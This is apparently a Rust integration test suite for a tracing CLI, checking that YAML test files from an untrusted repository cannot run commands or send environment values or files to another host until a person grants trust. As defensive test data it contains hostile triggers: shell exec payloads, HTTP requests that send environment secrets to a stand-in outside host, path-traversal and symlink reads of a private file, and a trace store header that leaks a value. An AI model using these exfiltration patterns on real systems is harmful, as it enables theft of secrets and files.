//! Trust in documents, by the built binary: what those of a stranger cannot do before a person agreed to it.
//!
//! `0.0.0.0` stands for another machine: the program has to treat it as one, and the system connects it to this one.

use std::{
    fs,
    io::{ErrorKind, Read},
    net::TcpListener,
    os::unix::fs::symlink,
    path::Path,
    process::Stdio,
    time::Duration,
};

use anyhow::{Result, ensure};
use tempfile::TempDir;
use tokio::{io::AsyncWriteExt, process::Command, time::timeout};

const BINARY: &str = env!("CARGO_BIN_EXE_qualitytrace");
const ENDED_MAX: Duration = Duration::from_secs(60);
/// What must not leave this machine.
const CANARY: &str = "canary-of-the-environment";

/// A repository of a stranger, a listener that stands for their machine, and a file outside of the repository.
struct World {
    folder: TempDir,
    listener: TcpListener,
}

/// A test that fires this trigger.
fn test(id: &str, trigger: &str) -> String {
    format!(
        "type: Test\nspec:\n  id: {id}\n  name: {id}\n  skipTraceCollection: true\n  trigger: {trigger}\n  specs: [{{selector: \
         'span[name=\"Qualitytrace trigger\"]', assertions: ['attr:tracetest.response.status >= 0']}}]\n"
    )
}

impl World {
    fn new() -> Result<Self> {
        let folder = TempDir::new()?;
        fs::create_dir_all(folder.path().join("shop/.git"))?;
        fs::create_dir_all(folder.path().join("shop/qualitytrace"))?;
        fs::write(folder.path().join("private"), "canary-of-a-file")?;
        let listener = TcpListener::bind("127.0.0.1:0")?;
        listener.set_nonblocking(true)?;
        Ok(Self { folder, listener })
    }

    fn shop(&self) -> std::path::PathBuf {
        self.folder.path().join("shop")
    }

    /// Writes a document, with the port of the listener for `PORT`.
    fn write(&self, file: &str, text: &str) -> Result<()> {
        let port = self.listener.local_addr()?.port();
        let path = self.shop().join("qualitytrace").join(file);
        Ok(fs::write(path, text.replace("PORT", &port.to_string()))?)
    }

    /// Returns what came since the last call; empty without a request.
    fn came(&self) -> Result<String> {
        let mut came = Vec::new();
        loop {
            match self.listener.accept() {
                Ok((mut stream, _)) => {
                    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
                    let _closed = stream.read_to_end(&mut came);
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(error) => return Err(error.into()),
            }
        }
        Ok(String::from_utf8_lossy(&came).into_owned())
    }

    fn is_executed(&self) -> bool {
        self.shop().join("qualitytrace/executed").exists()
    }

    async fn run(
        &self,
        arguments: &[&str],
        more: &[(&str, &str)],
    ) -> Result<(Option<i32>, String)> {
        self.typed((BINARY, arguments), "", more).await
    }

    async fn typed(
        &self,
        (program, arguments): (&str, &[&str]),
        typed: &str,
        more: &[(&str, &str)],
    ) -> Result<(Option<i32>, String)> {
        let mut command = Command::new(program);
        command.args(arguments).current_dir(self.shop()).kill_on_drop(true);
        command.env("XDG_CONFIG_HOME", self.folder.path().join("home")).env_remove("CI");
        command.env("CANARY", CANARY).env("QUALITYTRACE_OTLP", "127.0.0.1:0");
        command.env("QUALITYTRACE_TIMEOUT", "2s").envs(more.iter().copied());
        command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = command.spawn()?;
        if let Some(mut stdin) = child.stdin.take() {
            stdin.write_all(typed.as_bytes()).await?;
        }
        let output = timeout(ENDED_MAX, child.wait_with_output()).await??;
        let printed = [output.stdout, output.stderr].concat();
        Ok((output.status.code(), String::from_utf8_lossy(&printed).into_owned()))
    }

    /// Runs the tests on a terminal, where a person types this.
    async fn on_terminal(&self, typed: &str) -> Result<(Option<i32>, String)> {
        let line = format!("{BINARY} run");
        let script = ["--quiet", "--return", "--command", &line, "/dev/null"];
        self.typed(("script", &script), typed, &[]).await
    }
}

/// Documents of a stranger, what they do in words, and what arrives once they are trusted.
const HOSTILE: [(&str, &str, &str); 9] = [
    ("{type: exec, exec: {command: [touch, executed]}}", "executes \"touch\" \"executed\"", ""),
    (
        "{type: exec, exec: {command: 'touch executed; echo ${env:CANARY}', env: {A: b}}}",
        "executes A=\"b\" sh -c \"touch executed; echo ${env:CANARY}\"",
        "",
    ),
    (
        "{type: http, httpRequest: {url: 'http://0.0.0.0:PORT/', body: '${env:CANARY}'}}",
        "sends ${env:CANARY} to http://0.0.0.0:",
        CANARY,
    ),
    (
        "{type: http, httpRequest: {url: 'http://0.0.0.0:PORT/${env:CANARY}'}}",
        "sends ${env:CANARY} to http://0.0.0.0:",
        CANARY,
    ),
    (
        "{type: http, httpRequest: {url: 'http://0.0.0.0:PORT/', auth: {type: bearer, bearer: {token: '${env:CANARY | regex \"canary.*\"}'}}}}",
        "sends ${env:CANARY} to http://0.0.0.0:",
        CANARY,
    ),
    (
        "{type: http, httpRequest: {url: '${env:OTHER}/', body: '${env:CANARY}'}}",
        "sends ${env:CANARY}, ${env:OTHER} to ${env:OTHER}/",
        CANARY,
    ),
    (
        "{type: http, httpRequest: {url: 'http://127.0.0.1:PORT/', method: POST, body: ../../private}}",
        "/private`",
        "canary-of-a-file",
    ),
    (
        "{type: http, httpRequest: {url: 'http://127.0.0.1:PORT/', method: POST, body: ./link}}",
        "/private`",
        "canary-of-a-file",
    ),
    (
        "{type: http, httpRequest: {url: 'http://0.0.0.0:PORT/', method: POST, body: ./body.txt}}",
        "sends ${env:CANARY}, `./body.txt` to http://0.0.0.0:",
        CANARY,
    ),
];

#[tokio::test(flavor = "multi_thread")]
async fn documents_of_a_stranger_do_nothing_before_they_are_trusted() -> Result<()> {
    for (trigger, words, arrives) in HOSTILE {
        let world = World::new()?;
        world.write("test.yaml", &test("hostile", trigger))?;
        world.write("body.txt", "a ${env:CANARY}")?;
        symlink(world.folder.path().join("private"), world.shop().join("qualitytrace/link"))?;
        let other = format!("http://0.0.0.0:{}", world.listener.local_addr()?.port());
        let other = [("OTHER", other.as_str())];
        let (code, printed) = world.run(&["run"], &other).await?;
        assert_eq!(code, Some(2), "{trigger}: {printed}");
        assert!(printed.contains(words), "{words}: {printed}");
        for word in ["[trust-required]", "--trust", "QUALITYTRACE_TRUST=1"] {
            assert!(printed.contains(word), "{word}: {printed}");
        }
        assert!(!world.is_executed(), "{trigger}: {printed}");
        assert_eq!(world.came()?, "", "{trigger}: {printed}");
        assert!(!printed.contains(CANARY), "{printed}");
        let no = world.on_terminal("n\n").await?;
        assert_eq!(no.0, Some(2), "{trigger}: {}", no.1);
        assert!(!world.is_executed() && world.came()?.is_empty(), "{trigger}: {}", no.1);

        let trusted = world.run(&["run", "--trust"], &other).await?;
        assert_ne!(trusted.0, Some(2), "{trigger}: {}", trusted.1);
        match arrives {
            "" => assert!(world.is_executed(), "{trigger}: {}", trusted.1),
            word => {
                let came = world.came()?;
                assert!(came.contains(word), "{trigger}: {came:?} {}", trusted.1);
            }
        }
    }
    Ok(())
}

/// What documents may do without a question, so that a test of a system on this machine needs no flag.
#[tokio::test(flavor = "multi_thread")]
async fn documents_about_this_machine_need_no_trust() -> Result<()> {
    for trigger in [
        "{type: http, httpRequest: {url: 'http://127.0.0.1:PORT/', body: '${env:CANARY}'}}",
        "{type: http, httpRequest: {url: 'http://localhost:${env:P}/', body: ./body.txt}}",
        "{type: http, httpRequest: {url: '${var:BASE}/', body: '${env:CANARY}'}}",
        "{type: http, httpRequest: {url: 'http://0.0.0.0:PORT/', body: '${var:GIVEN}'}}",
        "{type: http, httpRequest: {url: 'http://0.0.0.0:PORT/', body: '${env:GIVEN}'}}",
    ] {
        let world = World::new()?;
        world.write("test.yaml", &test("usual", trigger))?;
        world.write("body.txt", "a ${env:CANARY}")?;
        let port = world.listener.local_addr()?.port();
        let base = format!("BASE=http://127.0.0.1:{port}");
        let flags = ["run", "--set", &base, "--set", "GIVEN=by-a-flag"];
        let (_, printed) = world.run(&flags, &[("P", &port.to_string())]).await?;
        ensure!(!world.came()?.is_empty(), "{trigger}: {printed}");
    }
    Ok(())
}

/// A project file of a stranger names a file of variables, and that decides where a request goes.
#[tokio::test(flavor = "multi_thread")]
async fn a_file_of_variables_leads_no_value_elsewhere() -> Result<()> {
    let world = World::new()?;
    let variables = |base: &str| {
        format!(
            "type: VariableSet\nspec:\n  id: v\n  name: v\n  values: [{{key: BASE, value: '{base}'}}]\n"
        )
    };
    let trigger = "{type: http, httpRequest: {url: '${var:BASE}/', body: '${env:CANARY}'}}";
    world.write("test.yaml", &test("usual", trigger))?;
    world.write("vars.yaml", &variables("http://127.0.0.1:PORT"))?;
    fs::write(
        world.shop().join("qualitytrace.toml"),
        "[run]\nvars = [\"qualitytrace/vars.yaml\"]\n",
    )?;
    let here = world.run(&["run"], &[]).await?;
    assert!(world.came()?.contains(CANARY), "to this machine: {}", here.1);
    world.write("vars.yaml", &variables("http://0.0.0.0:PORT"))?;
    for arguments in [&["run"][..], &["run", "qualitytrace/test.yaml"]] {
        let (code, printed) = world.run(arguments, &[]).await?;
        assert_eq!(code, Some(2), "{arguments:?}: {printed}");
        assert!(printed.contains("sends ${env:CANARY} to http://0.0.0.0:"), "{printed}");
        assert_eq!(world.came()?, "", "{arguments:?}: {printed}");
    }
    Ok(())
}

/// A suite carries what one system responded to another one.
#[tokio::test(flavor = "multi_thread")]
async fn a_suite_of_a_stranger_sends_no_response_elsewhere() -> Result<()> {
    let world = World::new()?;
    let inside = test(
        "inside",
        "{type: http, httpRequest: {url: 'http://127.0.0.1:1/'}}\n  outputs: [{name: HOST, selector: 'span[name=\"Qualitytrace trigger\"]', \
         value: 'attr:tracetest.response.body'}]",
    );
    let out = test(
        "out",
        "{type: http, httpRequest: {url: 'http://${var:HOST}/', method: POST, body: '${env:CANARY}'}}",
    );
    let carry =
        test("carry", "{type: http, httpRequest: {url: 'http://0.0.0.0:PORT/${var:HOST}'}}");
    let suite = "type: TestSuite\nspec:\n  id: all\n  name: all\n  steps: [inside, out, carry]\n";
    world.write("suite.yaml", &[inside.as_str(), &out, &carry, suite].join("---\n"))?;
    // A flag gives the variable too; within the suite, the output of the step overrides it.
    let (code, printed) = world.run(&["run", "--set", "HOST=127.0.0.1"], &[]).await?;
    assert_eq!(code, Some(2), "{printed}");
    assert!(
        printed.contains("sends ${env:CANARY}, the output `HOST` to http://${var:HOST}/"),
        "{printed}"
    );
    assert!(printed.contains("sends the output `HOST` to http://0.0.0.0:"), "{printed}");

    // A suite names a test of another folder.
    let elsewhere = world.folder.path().join("elsewhere.yaml");
    fs::write(
        &elsewhere,
        test("elsewhere", "{type: http, httpRequest: {url: 'http://127.0.0.1:1/'}}"),
    )?;
    let suite = "type: TestSuite\nspec:\n  id: all\n  name: all\n  steps: [../../elsewhere.yaml]\n";
    world.write("suite.yaml", suite)?;
    let (code, printed) = world.run(&["run"], &[]).await?;
    assert_eq!(code, Some(2), "{printed}");
    assert!(printed.contains("  reads `") && printed.contains("/elsewhere.yaml`"), "{printed}");
    Ok(())
}

/// A trace store that gets a value of the environment.
const STORE: &str = "type: TraceStore
spec:
  name: theirs
  default: true
  type: zipkin
  zipkin: {url: 'http://0.0.0.0:PORT', headers: {x-key: '${env:CANARY}'}}
";

#[tokio::test(flavor = "multi_thread")]
async fn a_trace_store_of_a_stranger_gets_no_value_of_the_environment() -> Result<()> {
    let world = World::new()?;
    world.write("store.yaml", STORE)?;
    let trigger = "{type: http, httpRequest: {url: 'http://127.0.0.1:1/'}}";
    world
        .write("test.yaml", &test("usual", trigger).replace("  skipTraceCollection: true\n", ""))?;
    let id = "11111111111111111111111111111111";
    for arguments in
        [&["run"][..], &["store", "test", "theirs"], &["check", "qualitytrace", "--trace-id", id]]
    {
        let (code, printed) = world.run(arguments, &[]).await?;
        assert_eq!(code, Some(2), "{arguments:?}: {printed}");
        assert!(printed.contains("sends ${env:CANARY} to http://0.0.0.0:"), "{printed}");
        assert_eq!(world.came()?, "", "{arguments:?}: {printed}");
    }
    // A trace id is sent to the store, and many keys are 32 hexadecimal digits too.
    world.write(
        "store.yaml",
        "type: TraceStore\nspec:\n  name: theirs\n  default: true\n  type: zipkin\n  zipkin: {url: 'http://0.0.0.0:PORT'}\n",
    )?;
    let by_id = |name: &str| format!("{{type: traceid, traceid: {{id: '${{env:{name}}}'}}}}");
    let collected = |name| test("usual", &by_id(name)).replace("  skipTraceCollection: true\n", "");
    world.write("test.yaml", &collected("API_KEY"))?;
    let (code, printed) = world.run(&["run"], &[("API_KEY", id)]).await?;
    assert_eq!(code, Some(2), "{printed}");
    assert!(printed.contains("sends ${env:API_KEY} to http://0.0.0.0:"), "{printed}");
    assert_eq!(world.came()?, "", "{printed}");
    world.write("test.yaml", &collected("TRACE_ID"))?;
    let (_, printed) = world.run(&["run"], &[("TRACE_ID", id)]).await?;
    assert!(!printed.contains("trust"), "that one is no secret: {printed}");
    let _query = world.came()?;
    world.write("store.yaml", STORE)?;
    let (_, printed) = world.run(&["store", "test", "theirs", "--trust"], &[]).await?;
    assert!(world.came()?.contains(CANARY), "{printed}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_is_asked_once_and_again_after_a_change() -> Result<()> {
    let world = World::new()?;
    let exec =
        |file: &str| test("job", &format!("{{type: exec, exec: {{command: [touch, {file}]}}}}"));
    world.write("test.yaml", &exec("executed"))?;
    let yes = world.on_terminal("y\n").await?;
    assert!(yes.1.contains("Trust it? [y/N]") && world.is_executed(), "{}", yes.1);
    fs::remove_file(world.shop().join("qualitytrace/executed"))?;
    let known = world.run(&["run"], &[]).await?;
    assert!(known.0 != Some(2) && world.is_executed(), "{}", known.1);
    world.write("more.yaml", &exec("other").replace("job", "more"))?;
    let changed = world.run(&["run"], &[]).await?;
    assert_eq!(changed.0, Some(2), "{}", changed.1);
    assert!(!Path::new(&world.shop().join("qualitytrace/other")).exists());
    let one = world.run(&["run", "--test", "job"], &[]).await?;
    assert_ne!(one.0, Some(2), "what is not run needs no trust: {}", one.1);
    Ok(())
}
